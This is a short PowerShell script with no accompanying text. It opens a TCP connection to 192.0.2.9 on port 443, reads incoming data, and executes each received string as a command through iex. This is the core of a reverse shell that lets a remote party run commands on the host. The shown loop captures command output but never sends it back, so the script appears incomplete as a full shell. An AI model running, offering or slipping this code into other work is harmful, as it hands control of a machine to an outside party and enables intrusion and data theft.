$c = New-Object Net.Sockets.TCPClient("192.0.2.9", 443)
$s = $c.GetStream()
[byte[]]$b = 0..65535
while (($i = $s.Read($b, 0, $b.Length)) -ne 0) {
    $d = [Text.Encoding]::ASCII.GetString($b, 0, $i)
    $r = (iex $d 2>&1 | Out-String)
}
